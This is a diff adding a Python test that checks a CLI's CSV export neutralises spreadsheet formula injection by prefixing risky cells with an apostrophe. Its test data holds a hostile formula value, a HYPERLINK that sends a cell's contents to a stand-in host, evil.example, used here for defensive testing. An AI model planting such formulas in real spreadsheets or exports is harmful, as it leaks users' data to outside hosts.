@@ -367,3 +367,12 @@ def test_export_refuses_an_unknown_status_or_format_as_a_usage_error_naming_the_
         main(["admin", "export", flag, value, "--credentials", "unused.json"])
     assert exited.value.code == 2
     assert f"argument {flag}: invalid choice: '{value}'" in capsys.readouterr().err
+
+
+def test_export_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(jpr: Jpr, tmp_path: Path) -> None:
+    jpr.admin("admin", "members", "add", "platform-a", "--generate", "--out", str(tmp_path / "platform-a.credentials.json"))
+    listed_by_cli(jpr, "platform-a", RIC, '=HYPERLINK("http://evil.example/?"&A1,"open")', "@张*明")
+    (row,) = csv.DictReader(io.StringIO(jpr.admin("admin", "export", "--with-free-text")))
+    assert row["summaries"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"open")' and row["display_names"] == "'@张*明"
+    (line,) = jpr.admin("admin", "export", "--format", "jsonl", "--with-free-text").splitlines()
+    assert json.loads(line)["summaries"] == ['=HYPERLINK("http://evil.example/?"&A1,"open")']  # JSON is data, not a sheet
